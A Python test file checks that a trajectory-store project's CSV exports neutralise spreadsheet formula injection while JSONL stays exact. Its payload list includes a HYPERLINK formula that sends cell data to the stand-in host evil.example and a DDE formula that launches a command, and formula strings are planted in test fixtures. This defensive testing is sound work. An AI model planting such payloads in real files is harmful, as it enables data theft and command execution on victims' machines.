"""Every CSV the project writes is safe to open in a spreadsheet (OWASP CSV-injection guidance); JSONL stays exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from gcpc_core.cli import main
from gcpc_core.csv_safe import csv_cell, csv_value, frame_csv
from gcpc_core.models import Event, Task, Trajectory
from gcpc_core.store import Store
from annotations.targets import add_annotation
from store.helpers import replace_trajectory

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "\n=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "  =1+1", "\u3000=1+1", '=1+2";=1+2',
            "=cmd|' /C calc'!A0"]
"""Cells a spreadsheet would evaluate: OWASP's trigger characters, full-width forms, triggers behind blanks."""


def live(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? A plain number (``-0.25``) is a number, not a formula."""
    try:
        float(cell)
        return False
    except ValueError:
        pass
    return bool(cell) and cell[0] != "'" and (cell.lstrip(" \t\r\n\0\u3000")[:1] in set("=+-@＝＋－＠") or
                                             cell[0] in "\t\r\n\0")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_trigger_is_neutralised_and_reversible(payload: str) -> None:
    assert live(payload) and not live(csv_cell(payload))  # type: ignore[arg-type]
    assert csv_cell(payload) == "'" + payload and csv_value(csv_cell(payload)) == payload  # type: ignore[arg-type]


def test_plain_text_and_numbers_are_left_alone() -> None:
    for value in ("hello", "task-1", "a=b", "", None, -0.5, 3, True):
        assert csv_cell(value) == value
    assert csv_cell("'quoted") == "''quoted" and csv_value("''quoted") == "'quoted"  # a quote of its own survives
    text = frame_csv(pd.DataFrame({"x": [-0.25, 1.0], "name": ["-oops", "ok"], "=col": ["a", "b"]}))
    assert text.splitlines() == ['x,name,"\'=col"', '-0.25,"\'-oops","a"', '1.0,"ok","b"']  # plain names bare
    back = pd.read_csv(io.StringIO(text))
    assert back["x"].tolist() == [-0.25, 1.0]  # numbers stay numbers


@pytest.fixture
def evil_db(tmp_path: Path) -> Path:
    """A project whose trial name, agent, model, task and an annotation note are formulas."""
    store = Store(tmp_path / "evil.db")
    store.trials.upsert_task(Task(id="@task", instruction="Do it.", source_path="/data/tasks/@task"))
    traj = Trajectory(id="=HYPERLINK(\"http://x/\"&A1)", task="@task", agent="+agent", model="-model", condition="unknown",
                      outcome="FAIL", reward=0.0, source_path="=/data/trial", log_path="agent/log.jsonl",
                      log_format="gcpc-jsonl")  # type: ignore[arg-type]
    replace_trajectory(store, traj, [Event(id="E1", seq=1, kind="tool_call", text="ls")])  # type: ignore[arg-type]
    add_annotation(store, kind="item_audit", rater="=rater", value={"agree": True, "verdict": None}, task="@task",
                         trajectory_id=traj.id, item_id="C1", judge="probe", note='=1+2";=1+2')
    store.close()
    return tmp_path / "evil.db"


@pytest.mark.parametrize("what", ["trials", "annotations"])
def test_export_csv_has_no_live_formula_and_jsonl_is_exact(evil_db: Path, tmp_path: Path, what: str) -> None:
    out = tmp_path / f"{what}.csv"
    assert main(["export", "--db", str(evil_db), "--what", what, "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 2 and not [c for row in rows for c in row if live(c)]
    record = dict(zip(rows[0], [csv_value(c) for c in rows[1]]))
    assert record["trajectory_id"] == '=HYPERLINK("http://x/"&A1)' and record["task"] == "@task"
    jsonl = tmp_path / f"{what}.jsonl"
    assert main(["export", "--db", str(evil_db), "--what", what, "--out", str(jsonl)]) == 0
    exact = json.loads(jsonl.read_text(encoding="utf-8"))
    assert exact["trajectory_id"] == '=HYPERLINK("http://x/"&A1)' and exact["task"] == "@task"
    if what == "trials":
        assert (exact["agent"], exact["model"]) == ("+agent", "-model")
        assert (record["agent"], record["model"]) == ("+agent", "-model")
    else:
        assert exact["note"] == record["note"] == '=1+2";=1+2'


def test_report_and_dashboard_csvs_have_no_live_formula(tmp_path: Path) -> None:
    from gcpc_core.analysis import build_report
    from gcpc_core.analysis.synthetic import synthetic_frames
    from gcpc_core.review.agreement import table_bytes

    frames = synthetic_frames(n_tasks=4, n_pairs=20, n_unpaired=2, n_rated=6, n_pref_pairs=4, seed=1)
    evil = {}
    for name, f in frames.items():
        f = f.copy()
        for column, old, new in (("task", "task-000", "=HYPERLINK(\"http://x/\")"), ("judge", "fixed", "@fixed"),
                                 ("rater", "rater-0", "-rater")):
            if column in f.columns:
                f[column] = f[column].replace(old, new)
        evil[name] = f
    result = build_report(evil, tmp_path, n_boot=20, figures=False)
    found = 0
    for name, path in result.csv.items():
        cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in row]
        assert not [c for c in cells if live(c)], name
        found += sum(c in ("'=HYPERLINK(\"http://x/\")", "'@fixed", "'-rater") for c in cells)
    assert found > 10  # the payloads are there, as text
    auc = pd.read_csv(result.csv["discrimination_auc"])
    assert auc["auc"].tolist() == pytest.approx(result.tables["discrimination_auc"]["auc"].tolist())
    download = table_bytes(result.tables["discrimination_auc"], "csv").decode()
    assert "'@fixed" in download and not [c for row in csv.reader(io.StringIO(download)) for c in row if live(c)]


def test_a_frame_is_neutralised_cell_by_cell_like_csv_cell_and_left_unchanged() -> None:
    mixed = [*PAYLOADS, "ok", None, 3, -1.5, ["=x"], "'q", "", float("nan"), True]
    frame = pd.DataFrame({"mixed": pd.Series(mixed, dtype=object), "n": range(len(mixed))})
    before = frame.copy()
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))[1:]
    expected = ["" if v is None or v != v else str(csv_cell(v)) for v in mixed]
    assert [r[0] for r in rows] == expected
    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is not written to


@pytest.mark.parametrize("text", ["'tis fine", "'", "''", "'''=x", "' =1", "'-1", "ok"])
def test_reading_removes_only_the_quote_a_neutralised_cell_carries(text: str) -> None:
    assert csv_value(csv_cell(text)) == text  # exact round trip, whatever the text


@pytest.mark.parametrize("text", ["'tis fine", "'", "'a=b", "' ok"])
def test_a_hand_written_leading_quote_that_guards_nothing_is_kept(text: str) -> None:
    assert csv_value(text) == text
